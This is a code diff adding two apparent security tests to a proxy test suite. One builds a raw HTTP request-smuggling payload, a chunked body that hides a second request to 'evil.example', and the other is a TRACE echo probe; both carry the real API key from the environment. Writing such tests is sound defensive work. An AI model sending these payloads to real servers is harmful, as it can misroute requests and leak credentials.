@@ -45,6 +45,19 @@ export const netting = {
     const answer = await fetch(`${model().origin}/another-key`, { headers: { 'x-api-key': 'another' } })
     note({ status: answer.status })
   },
+  /** A body that would be a request of its own where nobody says how long it is: to another host at the same address. */
+  async 'net.hidden'({ note }) {
+    const { hostname, port } = model()
+    const hidden = 'POST /hidden HTTP/1.1\r\nHost: evil.example\r\n\r\n'
+    const head = `GET / HTTP/1.1\r\nHost: x\r\nX-Api-Key: ${process.env.ANTHROPIC_API_KEY}\r\nTransfer-Encoding: chunked\r\n\r\n`
+    const body = `${hidden.length.toString(16)}\r\n${hidden}\r\n0\r\n\r\n`
+    note({ heard: await asked(hostname, port, head + body) })
+  },
+  async 'net.echo'({ note }) {
+    const { hostname, port } = model()
+    const head = `TRACE /echo HTTP/1.1\r\nHost: x\r\nX-Api-Key: ${process.env.ANTHROPIC_API_KEY}\r\n`
+    note({ heard: await asked(hostname, port, `${head}Connection: close\r\n\r\n`) })
+  },
   /** Where would the proxy go, and with which key? */
   async 'net.elsewhere'({ plan, note }) {
     const { host, port } = plan.outside
